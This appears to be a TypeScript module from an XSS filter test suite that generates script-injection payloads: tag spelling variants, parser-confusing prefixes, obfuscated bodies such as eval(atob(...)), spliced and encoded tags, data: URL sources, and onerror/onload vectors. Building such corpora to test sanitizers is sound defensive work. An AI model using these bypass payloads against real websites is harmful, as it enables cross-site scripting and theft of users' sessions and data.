import { asReferences, decimal, each, hexadecimal, JS } from './payload.ts';

/** How the name of the element may be written so that a filter misses it and a browser does not. */
const starts = [
	'<script>',
	'<SCRIPT>',
	'<ScRiPt>',
	'<script >',
	'<script\n>',
	'<script\t>',
	'<script\f>',
	'<script/>',
	'<script/x>',
	'<script x=">" >',
	"<script x='>' >",
	'<script type=text/javascript>',
	'<script type="module">',
	'<script language=javascript>',
	'<script defer async>',
	'<script id="a" class=b>',
	'<script\u00a0>',
	'<script\u0000>',
	'<scr\u0000ipt>',
	'<\u0000script>',
	'<script <b>',
	'<<script>',
	'<><script>',
	'<!><script>',
	'<?><script>',
	'</><script>',
	'<%<script>',
	'<b <script>',
	'<b/><script>',
];
const ends = ['</script>', '</SCRIPT>', '</script >', '</script\n>', '</script/x>', '</script foo>', ''];

/** Prefixes that make a script seem to be inside something that is not parsed. */
const openings = [
	'<!-- --!><NESTED',
	'<!--><NESTED',
	'<!---><NESTED',
	'<!-- <!-- --><NESTED',
	'<!doctype x "><NESTED',
	'<![CDATA[ ]]><NESTED',
	'<![CDATA[><NESTED',
	'<?xml version="1.0"?><NESTED',
	'<?php > <NESTED',
	'</p x="><NESTED',
	'<img alt="</img><NESTED',
	'<img """><NESTED',
	"<img alt='>'><NESTED",
	'<a title="</a>"><NESTED',
	'<a href=https://x.example/"><NESTED',
	'<a href="https://x.example/"<NESTED',
	'<p title=`><NESTED',
	'<style></style><NESTED',
	'<style><!--</style><NESTED',
	'<textarea></textarea><NESTED',
	'<textarea><!--</textarea><NESTED',
	'<title></title><NESTED',
	'<title><!--</title><NESTED',
	'<xmp></xmp><NESTED',
	'<noscript></noscript><NESTED',
	'<iframe></iframe><NESTED',
	'<noembed></noembed><NESTED',
	'<noframes></noframes><NESTED',
	'<select><option></select><NESTED',
	'<template></template><NESTED',
	'<svg></svg><NESTED',
	'<math></math><NESTED',
	'</body></html><NESTED',
	'</div></div></main><NESTED',
	'</textarea></title></style></script><NESTED',
];

const bodies = [
	JS,
	`/*${'x'.repeat(3)}*/${JS}`,
	`<!--\n${JS}\n-->`,
	`//<![CDATA[\n${JS}\n//]]>`,
	`eval(atob('${btoa(JS)}'))`,
	`setTimeout\`${JS}\``,
	`[].constructor.constructor('${JS}')()`,
	`import('data:text/javascript,${JS}')`,
];

/** Scripts put together again by a filter that takes one out of the middle. */
const spliced = [
	`<scr<script>ipt>${JS}</scr</script>ipt>`,
	`<scr<script></script>ipt>${JS}</script>`,
	`<scrip<b>t>${JS}</script>`,
	`<<b>script>${JS}<</b>/script>`,
	`<scr<!-- -->ipt>${JS}</script>`,
	`<s<script>cript>${JS}</s</script>cript>`,
	`<<script>script>${JS}<</script>/script>`,
	`&lt;script&gt;${JS}&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;${JS}&amp;lt;/script&amp;gt;`,
	`${asReferences('<script>', decimal)}${JS}${asReferences('</script>', decimal)}`,
	`${asReferences('<script>', hexadecimal)}${JS}${asReferences('</script>', hexadecimal)}`,
	`%3Cscript%3E${JS}%3C/script%3E`,
	`\\u003cscript\\u003e${JS}\\u003c/script\\u003e`,
	`\uff1cscript\uff1e${JS}\uff1c/script\uff1e`,
	`+ADw-script+AD4-${JS}+ADw-/script+AD4-`,
	`\u00bcscript\u00be${JS}\u00bc/script\u00be`,
];

/** Scripts from an address. */
const fromAddresses = ['src', 'SRC', 'href', 'xlink:href'].flatMap((name) => [
	`<script ${name}="data:text/javascript,${JS}"></script>`,
	`<svg><script ${name}="data:text/javascript,${JS}"></script></svg>`,
	`<script ${name}=data:text/javascript;base64,${btoa(JS)}></script>`,
]);

/** Class 1: the script element, by its spelling, by its neighbors, in pieces, encoded, from an address. */
export const scripts = (): string[] => [
	...each(starts, ends, (start, end) => `${start}${JS}${end}`),
	...each(openings, bodies, (opening, body) => opening.replace('<NESTED', () => `<script>${body}</script>`)),
	...each(openings, [`<img src=x onerror=${JS}>`, `<svg onload=${JS}>`], (opening, vector) =>
		opening.replace('<NESTED', () => vector),
	),
	...spliced,
	...fromAddresses,
];
